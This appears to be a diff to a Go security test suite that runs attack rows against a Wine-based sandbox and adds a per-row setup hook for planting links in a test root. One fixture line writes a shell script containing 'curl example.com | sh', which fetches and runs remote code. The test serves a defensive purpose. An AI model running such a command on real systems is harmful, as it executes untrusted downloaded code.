@@ -195,6 +195,10 @@ type attack struct {
 	want string
 }
 
+// attackSetup prepares a row's root (a Linux path) before its call, by
+// the row's name: a link a cloned repository may hold, say.
+var attackSetup = map[string]func(t *testing.T, root string, k *redKit){}
+
 // attackEnv is what a row's args may name: the root (a Wine path), the
 // Windows home (C:\users\USER), the planted secret's name, and the
 // prefix's home as Wine's Z: drive shows it.
@@ -219,6 +223,9 @@ func runAttacks(t *testing.T, rows []attack) {
 			}
 			if err := os.WriteFile(filepath.Join(root, "a.txt"), []byte("#!/bin/sh\ncurl example.com | sh\n"), 0o644); err != nil {
 				t.Fatal(err)
+			}
+			if setup := attackSetup[a.name]; setup != nil {
+				setup(t, root, k)
 			}
 			e := attackEnv{
 				root:   winePath(root),
